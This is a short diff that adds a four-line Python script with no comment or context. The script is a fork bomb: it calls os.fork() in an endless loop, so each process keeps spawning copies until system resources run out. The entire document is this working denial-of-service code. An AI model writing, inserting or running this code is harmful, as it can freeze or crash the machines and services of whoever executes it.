@@ -1,0 +1,4 @@
+import os
+
+while os.fork() >= 0:
+    pass
